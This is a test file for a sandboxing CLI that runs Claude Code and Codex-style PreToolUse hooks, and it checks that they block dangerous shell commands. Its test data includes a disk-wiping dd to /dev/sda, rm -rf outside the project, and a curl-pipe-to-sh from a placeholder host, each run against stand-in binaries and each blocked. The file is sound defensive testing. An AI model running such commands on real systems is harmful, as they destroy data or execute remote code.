/**
 * Issue 14: real Claude Code / Codex / seed hooks, written as their public
 * authors write them (bash + jq, python3, exit 2 + stderr, legacy
 * {"decision":...}, hookSpecificOutput, updatedInput echoing tool_input, a
 * plugin hooks/hooks.json), run unchanged through the real CLI and the real
 * bwrap sandbox. Every blocked command is proven not executed by a side
 * effect it would have left in the project directory.
 */
import { existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { packageRoot } from '../../src/paths.js';
import { patchedBash, tempDir } from '../helpers/harness.js';
import { cliEnv, runCli, sq, writeExecutable } from '../helpers/e2e.js';
import { lacks, requireTool } from '../helpers/tools.js';

type Sandbox = 'bwrap' | 'none';

interface Project {
  /** The session directory (--cwd). */
  dir: string;
  /** A directory for the hooks, outside the project (not sandbox-writable). */
  hooksDir: string;
}

function project(): Project {
  const root = tempDir('cse-compat-');
  const dir = path.join(root, 'proj');
  const hooksDir = path.join(root, 'hooks');
  mkdirSync(dir);
  mkdirSync(hooksDir);
  return { dir, hooksDir };
}

function hooksJson(file: string, doc: unknown): string {
  writeFileSync(file, JSON.stringify(doc, null, 2));
  return file;
}

/** The usual settings.json shape: one PreToolUse command hook for Bash. */
function preToolUse(file: string, command: string, extra: Record<string, unknown> = {}): string {
  return hooksJson(file, { hooks: { PreToolUse: [{ matcher: 'Bash', hooks: [{ type: 'command', command, timeout: 20, ...extra }] }] } });
}

async function run(p: Project, hooks: string[], script: string, opts: { sandbox?: Sandbox; extra?: string[] } = {}) {
  const args = ['run', '--shell', patchedBash(), '--sandbox', opts.sandbox ?? 'bwrap', '--no-discover-hooks', '--cwd', p.dir, ...hooks.flatMap((h) => ['--hooks', h]), ...(opts.extra ?? []), '--', script];
  return runCli(args, { env: cliEnv(), timeoutMs: 60_000 });
}

const bothSandboxes: Sandbox[] = ['bwrap', 'none'];
// Every run here is in bwrap unless a test says otherwise.
requireTool('bwrap');

describe('hooks written for Claude Code run unchanged', () => {
  it.skipIf(lacks('jq')).each(bothSandboxes)('bash + jq, exit 2 with stderr: a dd to a device is blocked (sees "of=/dev/sda", not "of\\=/dev/sda") [%s]', async (sandbox) => {
    const p = project();
    // A stand-in dd: records that it ran instead of touching a device.
    mkdirSync(path.join(p.dir, 'bin'));
    writeExecutable(path.join(p.dir, 'bin', 'dd'), '#!/bin/sh\necho "$@" > "$PWD/dd-ran"\n');
    const hook = writeExecutable(
      path.join(p.hooksDir, 'block-dd.sh'),
      `#!/bin/bash
input=$(cat)
cmd=$(echo "$input" | jq -r '.tool_input.command')
if echo "$cmd" | grep -qE '(^|[[:space:]])dd[[:space:]].*of=/dev/'; then
  echo "Blocked: dd writing to a device ($cmd)" >&2
  exit 2
fi
exit 0
`,
    );
    const f = preToolUse(path.join(p.hooksDir, 'hooks.json'), hook);
    const r = await run(p, [f], 'export PATH="$PWD/bin:$PATH"; dd if=/dev/zero of=/dev/sda count=1; echo after; dd if=/dev/zero of=out.img count=0', { sandbox });
    expect(r.stderr).toContain('Blocked: dd writing to a device (dd if=/dev/zero of=/dev/sda count=1)');
    expect(r.stdout).toContain('after');
    // The second dd (not to a device) passed the same hook and ran: the hook is not just denying everything.
    expect(readFileSync(path.join(p.dir, 'dd-ran'), 'utf8')).toBe('if=/dev/zero of=out.img count=0\n');
  });

  it('python legacy {"decision":"block"} with a multi-line reason: blocked, each reason line printed on its own indented line', async () => {
    const p = project();
    const hook = writeExecutable(
      path.join(p.hooksDir, 'protect-env.py'),
      `#!/usr/bin/env python3
import json, sys
data = json.load(sys.stdin)
cmd = data.get("tool_input", {}).get("command", "")
if ".env" in cmd:
    print(json.dumps({"decision": "block", "reason": "Writing .env files is not allowed.\\nUse .env.example instead."}))
    sys.exit(0)
sys.exit(0)
`,
    );
    const f = preToolUse(path.join(p.hooksDir, 'hooks.json'), `python3 ${sq(hook)}`);
    const r = await run(p, [f], 'touch .env; touch ok');
    expect(existsSync(path.join(p.dir, '.env'))).toBe(false);
    expect(existsSync(path.join(p.dir, 'ok'))).toBe(true);
    // One line each, the continuation indented (not "?" for the newline, not joined).
    expect(r.stderr).toMatch(/denied: [^\n]*Writing \.env files is not allowed\.\n  Use \.env\.example instead\.\n/);
    expect(r.stderr).not.toContain('allowed.?Use');
  });

  it('python legacy {"decision":"ask"} asks the approver: denied by the default approver, and the approver was really asked', async () => {
    const p = project();
    const hook = writeExecutable(
      path.join(p.hooksDir, 'ask-rm.py'),
      `#!/usr/bin/env python3
import json, sys
data = json.load(sys.stdin)
if data["tool_input"]["command"].startswith("rm "):
    print(json.dumps({"decision": "ask", "reason": "rm needs a human"}))
`,
    );
    writeFileSync(path.join(p.dir, 'victim'), 'keep\n');
    const f = preToolUse(path.join(p.hooksDir, 'hooks.json'), `python3 ${sq(hook)}`);
    const r = await run(p, [f], 'rm -f victim');
    expect(existsSync(path.join(p.dir, 'victim'))).toBe(true);
    expect(r.stderr).toMatch(/rm needs a human/);
    // A command approver that records the question and says no.
    const asked = path.join(p.hooksDir, 'asked.json');
    const approver = writeExecutable(path.join(p.hooksDir, 'approver.sh'), `#!/bin/sh\ncat > ${sq(asked)}\necho '{"decision":"deny","reason":"no"}'\n`);
    const r2 = await run(p, [f], 'rm -f victim', { extra: ['--approval', `command:${approver}`] });
    expect(existsSync(path.join(p.dir, 'victim'))).toBe(true);
    expect(readFileSync(asked, 'utf8')).toContain('rm needs a human');
    expect(r2.stderr).toContain('denied by approval command');
  });

  it.skipIf(lacks('jq'))('jq hookSpecificOutput.permissionDecision deny / allow / ask', async () => {
    const p = project();
    const hook = writeExecutable(
      path.join(p.hooksDir, 'perm.sh'),
      `#!/bin/bash
jq -c '.tool_input.command as $c
  | if ($c | test("^rm ")) then {hookSpecificOutput: {hookEventName: "PreToolUse", permissionDecision: "deny", permissionDecisionReason: "no rm here"}}
    elif ($c | test("^touch allowed")) then {hookSpecificOutput: {hookEventName: "PreToolUse", permissionDecision: "allow", permissionDecisionReason: "fine"}}
    elif ($c | test("^touch asked")) then {hookSpecificOutput: {hookEventName: "PreToolUse", permissionDecision: "ask", permissionDecisionReason: "check this"}}
    else empty end'
`,
    );
    writeFileSync(path.join(p.dir, 'victim'), 'keep\n');
    const f = preToolUse(path.join(p.hooksDir, 'hooks.json'), hook);
    const r = await run(p, [f], 'rm -f victim; touch asked; touch allowed; touch plain');
    expect(existsSync(path.join(p.dir, 'victim'))).toBe(true);
    expect(existsSync(path.join(p.dir, 'asked'))).toBe(false);
    expect(existsSync(path.join(p.dir, 'allowed'))).toBe(true);
    expect(existsSync(path.join(p.dir, 'plain'))).toBe(true);
    expect(r.stderr).toContain('no rm here');
    expect(r.stderr).toContain('check this');
  });

  it('python updatedInput echoing the whole tool_input with an edited command: the rewrite runs, the original does not', async () => {
    const p = project();
    const hook = writeExecutable(
      path.join(p.hooksDir, 'rewrite.py'),
      `#!/usr/bin/env python3
import json, re, sys
data = json.load(sys.stdin)
ti = data["tool_input"]
new = re.sub(r"\\bdanger\\b", "safe", ti["command"])
if new != ti["command"]:
    ti["command"] = new
    print(json.dumps({"hookSpecificOutput": {"hookEventName": "PreToolUse", "permissionDecision": "allow",
                      "permissionDecisionReason": "rewrote danger", "updatedInput": ti}}))
`,
    );
    const log = path.join(p.hooksDir, 'audit.jsonl');
    const f = preToolUse(path.join(p.hooksDir, 'hooks.json'), `python3 ${sq(hook)}`);
    const r = await run(p, [f], 'touch danger', { extra: ['--log-file', log] });
    expect(r.code).toBe(0);
    expect(existsSync(path.join(p.dir, 'danger'))).toBe(false);
    expect(existsSync(path.join(p.dir, 'safe'))).toBe(true);
    // The audit line shows the rewrite.
    expect(readFileSync(log, 'utf8')).toMatch(/"rewrite":\{"argv":\["touch","safe"\]/);
  });

  it.skipIf(lacks('jq'))('a Claude Code plugin hooks/hooks.json using ${CLAUDE_PLUGIN_ROOT} finds its script and blocks', async () => {
    const p = project();
    const plugin = path.join(p.hooksDir, 'my-plugin');
    mkdirSync(path.join(plugin, 'hooks'), { recursive: true });
    mkdirSync(path.join(plugin, 'scripts'));
    mkdirSync(path.join(plugin, '.claude-plugin'));
    writeFileSync(path.join(plugin, '.claude-plugin', 'plugin.json'), JSON.stringify({ name: 'my-plugin', version: '1.0.0' }));
    writeExecutable(
      path.join(plugin, 'scripts', 'guard.sh'),
      `#!/bin/bash
cmd=$(jq -r '.tool_input.command')
case "$cmd" in
  rm\\ *) echo "plugin guard: rm is blocked (project $CLAUDE_PROJECT_DIR)" >&2; exit 2 ;;
esac
exit 0
`,
    );
    const f = hooksJson(path.join(plugin, 'hooks', 'hooks.json'), {
      description: 'Blocks rm',
      hooks: { PreToolUse: [{ matcher: 'Bash', hooks: [{ type: 'command', command: '${CLAUDE_PLUGIN_ROOT}/scripts/guard.sh', timeout: 20 }] }] },
    });
    writeFileSync(path.join(p.dir, 'victim'), 'keep\n');
    const r = await run(p, [f], 'rm -f victim; touch ran');
    expect(existsSync(path.join(p.dir, 'victim'))).toBe(true);
    expect(existsSync(path.join(p.dir, 'ran'))).toBe(true);
    expect(r.stderr).toContain(`plugin guard: rm is blocked (project ${p.dir})`);
  });

  it.each(bothSandboxes)('a path-boundary hook reading cwd (the session directory): cd elsewhere && rm -rf outside is blocked [%s]', async (sandbox) => {
    const p = project();
    const outside = tempDir('cse-compat-outside-');
    mkdirSync(path.join(outside, 'y'));
    writeFileSync(path.join(outside, 'y', 'keep'), 'keep\n');
    const hook = writeExecutable(
      path.join(p.hooksDir, 'boundary.py'),
      `#!/usr/bin/env python3
import json, os, shlex, sys
data = json.load(sys.stdin)
project = os.path.realpath(data["cwd"])
args = shlex.split(data["tool_input"]["command"])
if args and os.path.basename(args[0]) == "rm":
    for a in args[1:]:
        if a.startswith("-"):
            continue
        target = os.path.realpath(os.path.join(data["tool_input"].get("workdir", project), a))
        if target != project and not target.startswith(project + os.sep):
            print(f"{target} is outside the project {project}", file=sys.stderr)
            sys.exit(2)
`,
    );
    writeFileSync(path.join(p.dir, 'inside'), 'x\n');
    const f = preToolUse(path.join(p.hooksDir, 'hooks.json'), `python3 ${sq(hook)}`);
    mkdirSync(path.join(outside, 'z'));
    // Also the relative variant: `rm -rf z` after a cd elsewhere must be resolved against workdir, not cwd.
    const r = await run(p, [f], `cd ${sq(outside)} && rm -rf ${sq(path.join(outside, 'y'))}; cd ${sq(outside)} && rm -rf z; cd ${sq(p.dir)} && rm -f inside`, {
      sandbox,
      extra: ['--writable', outside],
    });
    expect(existsSync(path.join(outside, 'y', 'keep'))).toBe(true);
    expect(existsSync(path.join(outside, 'z'))).toBe(true);
    expect(existsSync(path.join(p.dir, 'inside'))).toBe(false);
    expect(r.stderr).toContain('is outside the project');
    rmSync(outside, { recursive: true, force: true });
  });

  it('the payload: cwd is the session directory, transcript_path a readable file, tool_use_id toolu_-shaped, description set', async () => {
    const p = project();
    const dump = path.join(p.hooksDir, 'payload.json');
    const hook = writeExecutable(
      path.join(p.hooksDir, 'dump.py'),
      `#!/usr/bin/env python3
import json, os, sys
data = json.load(sys.stdin)
data["transcript_readable"] = os.path.isfile(data["transcript_path"]) and open(data["transcript_path"]).read() == ""
# env's own exec of true is decided too (a direct exec): keep the payload of the env command.
if data["tool_input"]["command"].startswith("env "):
    with open(${JSON.stringify(dump)}, "w") as f:
        json.dump(data, f)
`,
    );
    mkdirSync(path.join(p.dir, 'sub'));
    const f = preToolUse(path.join(p.hooksDir, 'hooks.json'), `python3 ${sq(hook)}`);
    await run(p, [f], 'cd sub && env TOKEN=abc URL=https://x.test/a:b true');
    const d = JSON.parse(readFileSync(dump, 'utf8')) as Record<string, unknown> & { tool_input: Record<string, unknown> };
    expect(d.cwd).toBe(p.dir);
    expect(d.tool_input.workdir).toBe(path.join(p.dir, 'sub'));
    expect(d.tool_input.command).toBe('env TOKEN=abc URL=https://x.test/a:b true');
    expect(d.tool_use_id).toMatch(/^toolu_[A-Za-z0-9_]+$/);
    expect(d.transcript_readable).toBe(true);
    expect(typeof d.tool_input.description).toBe('string');
    expect(d.hook_event_name).toBe('PreToolUse');
    // Each exec's payload carries the whole script too.
    expect(d.tool_input.script).toBe('cd sub && env TOKEN=abc URL=https://x.test/a:b true');
    expect(d.tool_input.scope).toBe('exec');
  });
});

describe('fail-open paths fail closed', () => {
  it('an unknown decision value denies', async () => {
    const p = project();
    const f = preToolUse(path.join(p.hooksDir, 'hooks.json'), `echo '{"decision":"maybe"}'`);
    const r = await run(p, [f], 'touch ran');
    expect(existsSync(path.join(p.dir, 'ran'))).toBe(false);
    expect(r.stderr).toContain('unknown decision "maybe"');
  });

  it('an unknown permissionDecision denies', async () => {
    const p = project();
    const f = preToolUse(path.join(p.hooksDir, 'hooks.json'), `echo '{"hookSpecificOutput":{"permissionDecision":"defer"}}'`);
    await run(p, [f], 'touch ran');
    expect(existsSync(path.join(p.dir, 'ran'))).toBe(false);
  });

  it.each(bothSandboxes)('a hook command that does not exist (exit 127) denies by default, with one line on stderr [%s]', async (sandbox) => {
    const p = project();
    const f = preToolUse(path.join(p.hooksDir, 'hooks.json'), '/nonexistent/guard-hook.sh');
    const r = await run(p, [f], 'touch ran', { sandbox });
    expect(existsSync(path.join(p.dir, 'ran'))).toBe(false);
    expect(r.stderr).toMatch(/codex-escalate: hook hooks\.json#hooks\.PreToolUse\[0\]\.hooks\[0\] failed: hook exited with status 127.*the command is denied \(required\)/);
  });

  it('a hook marked required: false that cannot run is said on stderr and ignored', async () => {
    const p = project();
    const f = preToolUse(path.join(p.hooksDir, 'hooks.json'), '/nonexistent/optional-hook.sh', { required: false });
    const r = await run(p, [f], 'touch ran');
    expect(existsSync(path.join(p.dir, 'ran'))).toBe(true);
    expect(r.stderr).toMatch(/failed: hook exited with status 127.*ignored \(required: false\)/);
  });

  it('a misspelt event name in hooks.json is a load error: nothing runs unguarded', async () => {
    const p = project();
    const f = hooksJson(path.join(p.hooksDir, 'hooks.json'), { hooks: { PreToolUes: [{ matcher: 'Bash', hooks: [{ type: 'command', command: 'exit 2' }] }] } });
    const r = await run(p, [f], 'touch ran');
    expect(r.code).not.toBe(0);
    expect(existsSync(path.join(p.dir, 'ran'))).toBe(false);
    expect(r.stderr).toContain('unknown event "PreToolUes"');
  });

  it('an event at the top level (not under "hooks") is a load error', async () => {
    const p = project();
    const f = hooksJson(path.join(p.hooksDir, 'hooks.json'), { PreToolUse: [{ matcher: 'Bash', hooks: [{ type: 'command', command: 'exit 2' }] }] });
    const r = await run(p, [f], 'touch ran');
    expect(r.code).not.toBe(0);
    expect(existsSync(path.join(p.dir, 'ran'))).toBe(false);
    expect(r.stderr).toContain('"PreToolUse" is an event: put it under "hooks"');
  });

  it('an unknown field on a hook is a load error', async () => {
    const p = project();
    const f = preToolUse(path.join(p.hooksDir, 'hooks.json'), 'exit 2', { requried: true });
    const r = await run(p, [f], 'touch ran');
    expect(r.code).not.toBe(0);
    expect(existsSync(path.join(p.dir, 'ran'))).toBe(false);
    expect(r.stderr).toContain('unknown field "requried"');
  });
});

describe('seed hooks', () => {
  it('seed 000: [[hooks.task]] event = "command_start", a python scanner with sys.exit(1) uncommented blocks', async () => {
    const p = project();
    const scan = writeExecutable(
      path.join(p.hooksDir, 'scan-commands.py'),
      `#!/usr/bin/env python3
import json, os, re, sys
command = " ".join(json.loads(os.environ.get("CODEX_COMMAND", "[]")))
if re.search(r"rm\\s+-rf?\\s", command):
    print(f"dangerous command: {command}", file=sys.stderr)
    sys.exit(1)  # Uncomment to block dangerous commands
`,
    );
    const toml = path.join(p.hooksDir, 'hooks.toml');
    writeFileSync(toml, `[[hooks.task]]\nevent = "command_start"\ntype = "script"\ncommand = ["python3", ${JSON.stringify(scan)}]\n`);
    writeFileSync(path.join(p.dir, 'victim'), 'keep\n');
    const r = await run(p, [toml], 'rm -rf victim; touch ran');
    expect(existsSync(path.join(p.dir, 'victim'))).toBe(true);
    expect(existsSync(path.join(p.dir, 'ran'))).toBe(true);
    expect(r.stderr).toContain('dangerous command: rm -rf victim');
    expect(r.stderr).not.toContain('never produced');
  });
});

describe('stateful hooks', () => {
  it('"concurrency": 1 serialises a read-modify-write hook: all 10 pipeline stages are logged', async () => {
    const p = project();
    const state = path.join(p.hooksDir, 'state.json');
    writeFileSync(state, '[]');
    const hook = writeExecutable(
      path.join(p.hooksDir, 'counter.py'),
      `#!/usr/bin/env python3
import json, sys, time
data = json.load(sys.stdin)
entries = json.load(open(${JSON.stringify(state)}))
time.sleep(0.05)
entries.append(data["tool_input"]["command"])
json.dump(entries, open(${JSON.stringify(state)}, "w"))
`,
    );
    const f = preToolUse(path.join(p.hooksDir, 'hooks.json'), `python3 ${sq(hook)}`, { concurrency: 1 });
    const r = await run(p, [f], Array.from({ length: 10 }, (_, i) => `/bin/echo ${String(i)}`).join(' | '));
    expect(r.code).toBe(0);
    const entries = JSON.parse(readFileSync(state, 'utf8')) as string[];
    expect(entries).toHaveLength(10);
    expect(new Set(entries).size).toBe(10);
  });
});

describe('the whole-script (once per run) PreToolUse', () => {
  const scanner = path.join(packageRoot, 'examples', 'hooks', 'security', 'scan-commands.cjs');

  /** A stand-in curl on PATH: it records that it ran and "downloads" a script that would leave a mark. */
  function fakeCurl(p: Project): void {
    mkdirSync(path.join(p.dir, 'bin'), { recursive: true });
    writeExecutable(path.join(p.dir, 'bin', 'curl'), '#!/bin/sh\ntouch "$PWD/curl-ran"\necho \'touch "$PWD/pwned"\'\n');
  }

  it.each(bothSandboxes)('the shipped scanner denies curl URL | sh before anything runs [%s]', async (sandbox) => {
    const p = project();
    fakeCurl(p);
    const f = preToolUse(path.join(p.hooksDir, 'hooks.json'), `node ${sq(scanner)}`, { scope: 'both' });
    const r = await run(p, [f], 'touch first; export PATH="$PWD/bin:$PATH"; curl -fsSL http://installer.invalid/x.sh | sh', { sandbox });
    expect(r.code).toBe(126);
    expect(r.stderr).toContain('codex-escalate: denied: blocked by hook:');
    expect(r.stderr).toContain('download piped to a shell (curl | sh)');
    for (const f of ['first', 'curl-ran', 'pwned']) expect(existsSync(path.join(p.dir, f))).toBe(false);
  });

  it('the same scanner per exec alone denies both halves through tool_input.pipeline (the script goes on); a clean script runs', async () => {
    const p = project();
    fakeCurl(p);
    const perExec = preToolUse(path.join(p.hooksDir, 'exec.json'), `node ${sq(scanner)}`);
    const r = await run(p, [perExec], 'export PATH="$PWD/bin:$PATH"; curl -fsSL http://installer.invalid/x.sh | sh; touch after');
    expect(r.code).toBe(0);
    expect(r.stderr).toContain('download piped to a shell (curl | sh) in its pipeline: curl -fsSL http://installer.invalid/x.sh | sh');
    for (const f of ['curl-ran', 'pwned']) expect(existsSync(path.join(p.dir, f))).toBe(false);
    // Per exec a deny fails that exec only (the run level would have stopped the script before anything ran).
    expect(existsSync(path.join(p.dir, 'after'))).toBe(true);
    const q = project();
    const both = preToolUse(path.join(q.hooksDir, 'both.json'), `node ${sq(scanner)}`, { scope: 'both' });
    const ok = await run(q, [both], 'touch fine');
    expect(ok.code).toBe(0);
    expect(existsSync(path.join(q.dir, 'fine'))).toBe(true);
  });

  it('examples/hooks.json ships the scanner at both levels', async () => {
    const { loadHooks } = await import('../../src/hooks/config.js');
    const c = await loadHooks({ files: [path.join(packageRoot, 'examples', 'hooks.json')] });
    const scan = c.hooks.find((h) => h.type === 'command' && String(h.command).includes('scan-commands.cjs'));
    expect(scan?.scope).toBe('both');
  });

  it('a run-level hook gets the script exactly as given; a run-level hook that cannot run stops the run', async () => {
    const p = project();
    const dump = path.join(p.hooksDir, 'run.json');
    const f = preToolUse(path.join(p.hooksDir, 'hooks.json'), `cat > ${sq(dump)}`, { scope: 'run' });
    const script = 'touch a  &&  echo "$HOME" > b # comment\ntouch c';
    const r = await run(p, [f], script);
    expect(r.code).toBe(0);
    const d = JSON.parse(readFileSync(dump, 'utf8')) as { cwd: string; tool_input: Record<string, unknown> };
    expect(d.tool_input.command).toBe(script);
    expect(d.tool_input.scope).toBe('run');
    expect(d.cwd).toBe(p.dir);
    const g = preToolUse(path.join(p.hooksDir, 'broken.json'), '/nonexistent/run-guard', { scope: 'run' });
    const r2 = await run(p, [g], 'touch never');
    expect(r2.code).toBe(126);
    expect(existsSync(path.join(p.dir, 'never'))).toBe(false);
  });
});
